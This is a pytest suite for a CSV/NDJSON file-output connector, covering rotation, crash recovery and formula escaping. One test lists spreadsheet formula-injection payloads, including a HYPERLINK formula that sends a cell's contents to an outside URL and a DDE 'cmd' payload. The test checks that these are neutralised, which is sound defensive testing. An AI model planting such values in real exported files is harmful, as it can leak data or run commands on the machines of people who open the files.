"""Files of changes: complete when they appear, and whole after a crash."""

import asyncio
import csv
import io
import json
import os
import signal
import subprocess
import sys
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from pydantic import ValidationError

from cdp_stream.connectors.exchange import Fault, Outcome
from cdp_stream.connectors.partners.file import CSV_COLUMNS, File
from tests.connectors.changes import change
from tests.connectors.conformance_local import LocalCase, Place, local_conformance, opened
from tests.connectors.folding import members_after


def finished(directory, suffix="ndjson"):
    return sorted(path for path in directory.glob(f"out-*.{suffix}"))


def messages(directory):
    texts = [path.read_text(encoding="utf-8") for path in finished(directory)]
    return [json.loads(line) for text in texts for line in text.split("\n")[:-1]]


def rows(directory):
    texts = [path.read_text(encoding="utf-8") for path in finished(directory, "csv")]
    return [row for text in texts for row in csv.DictReader(io.StringIO(text, newline=""))]


@asynccontextmanager
async def ndjson(directory: Path):
    target = directory / "made" / "here"

    async def members():
        return members_after(messages(target))

    yield Place({"directory": str(target), "rotate_bytes": 3_000}, members)


@asynccontextmanager
async def csv_files(directory: Path):
    async def members():
        decoded = [
            {**row, "user_identities": json.loads(row["user_identities"])}
            for row in rows(directory)
        ]
        return members_after(decoded)

    yield Place({"directory": str(directory), "format": "csv", "rotate_bytes": 3_000}, members)


TestConforms = local_conformance(LocalCase(File, ndjson))
TestCsvConforms = local_conformance(LocalCase(File, csv_files))


def some(count, start=0):
    return [
        change(mpid=str(n), identities={"email": f"{n}@x.org"}) for n in range(start, start + count)
    ]


def names(directory):
    return sorted(path.name for path in directory.iterdir())


async def test_a_line_is_the_message_to_the_letter(tmp_path):
    one = change(identities={"email": "a@x.org"}, attributes={"ltv": 1.5})
    async with opened(File, {"directory": str(tmp_path)}, tmp_path) as made:
        await made.write([one])
    (file,) = finished(tmp_path)
    assert file.read_text() == json.dumps(one.message, separators=(",", ":")) + "\n"


async def test_csv_has_a_head_and_a_row_each(tmp_path):
    async with opened(File, {"directory": str(tmp_path), "format": "csv"}, tmp_path) as made:
        await made.write([change(mpid="7", identities={"email": "a@x.org"}, attributes={"n": 1})])
    (file,) = finished(tmp_path, "csv")
    head, row, end = file.read_text().split("\n")
    assert head.split(",") == list(CSV_COLUMNS)
    assert row == (
        "vip:7:1754049600000:0,add,acme,vip,VIP customers,7,1754049600000,0,,vip@out,"
        '"[{""identity_type"":""email"",""identity"":""a@x.org""}]","{""n"":1}"'
    )
    assert end == ""


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=HYPERLINK("http://x.org?"&A1)', '\'=HYPERLINK("http://x.org?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1", "'  =1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "' =1"),
        ("\n=1", "' =1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("'=1", "''=1"),
        ("a=1", "a=1"),
        ("+33612345678", "+33612345678"),
        ("-12.5", "-12.5"),
    ],
)
async def test_no_cell_is_a_formula_to_a_spreadsheet(tmp_path, name, written):
    one = change(mpid="-7", name=name, identities={"mobile_number": "+33612345678"})
    for formulas, expected in (("escape", written), ("keep", " ".join(name.splitlines()))):
        folder = tmp_path / formulas
        settings = {"directory": str(folder), "format": "csv", "csv_formulas": formulas}
        async with opened(File, settings, tmp_path) as made:
            await made.write([one])
        (row,) = rows(folder)
        assert (row["audience_name"], row["mpid"]) == (expected, "-7")
        assert json.loads(row["user_identities"])[0]["identity"] == "+33612345678"


async def test_nothing_is_seen_of_a_file_before_it_is_complete(tmp_path):
    async with opened(File, {"directory": str(tmp_path)}, tmp_path) as made:
        await made.write(some(3))
        assert finished(tmp_path) == []
        assert len(messages(tmp_path)) == 0
    assert len(messages(tmp_path)) == 3
    assert [name for name in names(tmp_path) if name.startswith(".")] == []


async def test_no_file_is_larger_than_asked_and_order_is_kept(tmp_path):
    settings = {"directory": str(tmp_path), "rotate_bytes": 2_000}
    async with opened(File, settings, tmp_path) as made:
        for start in range(0, 60, 20):
            await made.write(some(20, start))
    sizes = [path.stat().st_size for path in finished(tmp_path)]
    assert len(sizes) > 5
    assert max(sizes) <= 2_000
    assert [message["mpid"] for message in messages(tmp_path)] == [str(n) for n in range(60)]


async def test_a_change_larger_than_a_file_has_a_file_of_its_own(tmp_path):
    async with opened(File, {"directory": str(tmp_path), "rotate_bytes": 10}, tmp_path) as made:
        await made.write(some(3))
    assert len(finished(tmp_path)) == 3


async def test_time_finishes_a_file(tmp_path):
    settings = {"directory": str(tmp_path), "rotate_after": "1ms"}
    async with opened(File, settings, tmp_path) as made:
        await made.write(some(2))
        async with asyncio.timeout(10):
            while not finished(tmp_path):
                await made.idle()
        assert len(messages(tmp_path)) == 2


async def test_a_quiet_output_makes_no_empty_files(tmp_path):
    settings = {"directory": str(tmp_path), "format": "csv", "rotate_after": "1ms"}
    async with opened(File, settings, tmp_path) as made:
        await made.idle()
    assert names(tmp_path) == []


@pytest.mark.parametrize("torn", [b"", b'{"message_id":"vip:9', b'{"message_id":"vip:9"}'])
async def test_a_torn_line_is_cut_off(tmp_path, torn):
    _killed_after_writing(tmp_path, 5, torn)
    async with opened(File, {"directory": str(tmp_path)}, tmp_path) as made:
        assert [message["mpid"] for message in messages(tmp_path)] == [str(n) for n in range(5)]
        assert await made.write(some(8)) == Outcome()  # all of them again, and more
    assert [message["mpid"] for message in messages(tmp_path)] == [str(n) for n in range(8)]


def _killed_after_writing(directory, count, torn):
    """Another process writes changes, part of a line more, and is killed with SIGKILL."""
    code = f"""
import asyncio, pathlib, sys
from cdp_stream.connectors.partners.file import File, FileSettings
from tests.connectors.test_file import some
async def main():
    made = File("out", FileSettings(directory={str(directory)!r}))
    await made.open(pathlib.Path({str(directory)!r}))
    await made.write(some({count}))
    part = next(pathlib.Path({str(directory)!r}).glob(".out-*.part"))
    with part.open("ab") as file:
        file.write({torn!r})
    print("written", flush=True)
    await asyncio.Event().wait()
asyncio.run(main())
"""
    process = subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True)
    with process:
        assert process.stdout is not None
        assert process.stdout.readline() == "written\n"
        os.kill(process.pid, signal.SIGKILL)


async def test_what_another_process_is_writing_is_left_alone(tmp_path):
    settings = {"directory": str(tmp_path)}
    async with opened(File, settings, tmp_path) as one, opened(File, settings, tmp_path) as other:
        await one.write(some(2))
        await other.write(some(2, start=2))
        third = File("out", File.output_settings.model_validate(settings))
        await third.open(tmp_path)
        assert finished(tmp_path) == []
        await third.close()
    assert sorted(message["mpid"] for message in messages(tmp_path)) == ["0", "1", "2", "3"]


async def test_an_output_whose_name_begins_alike_is_another(tmp_path):
    (tmp_path / ".out-mail-20250801T120000.000000Z-0a0b0c0d.part").write_bytes(b"{}\n")
    (tmp_path / "out-mail-20250801T120000.000000Z-0a0b0c0d.ndjson").write_bytes(b"{}\n")
    before = names(tmp_path)
    async with opened(File, {"directory": str(tmp_path)}, tmp_path):
        pass
    assert names(tmp_path) == before


async def test_a_place_that_cannot_be_written_is_a_fault(tmp_path):
    (tmp_path / "taken").write_text("a file")
    made = File("out", File.output_settings.model_validate({"directory": f"{tmp_path}/taken/x"}))
    with pytest.raises(Fault, match="cannot be written"):
        await made.open(tmp_path)


async def test_a_part_that_somebody_removed_is_a_fault_and_then_it_goes_on(tmp_path):
    made = File("out", File.output_settings.model_validate({"directory": str(tmp_path)}))
    await made.open(tmp_path)
    await made.write(some(1))
    next(tmp_path.glob(".out-*.part")).unlink()
    with pytest.raises(Fault, match="was removed while it was written"):
        await made.close()
    await made.write(some(1, start=1))
    await made.close()
    assert [message["mpid"] for message in messages(tmp_path)] == ["1"]


def test_a_wrong_duration_is_reported():
    with pytest.raises(ValidationError, match="this is not a duration above 0"):
        File.output_settings.model_validate({"directory": "x", "rotate_after": "soon"})
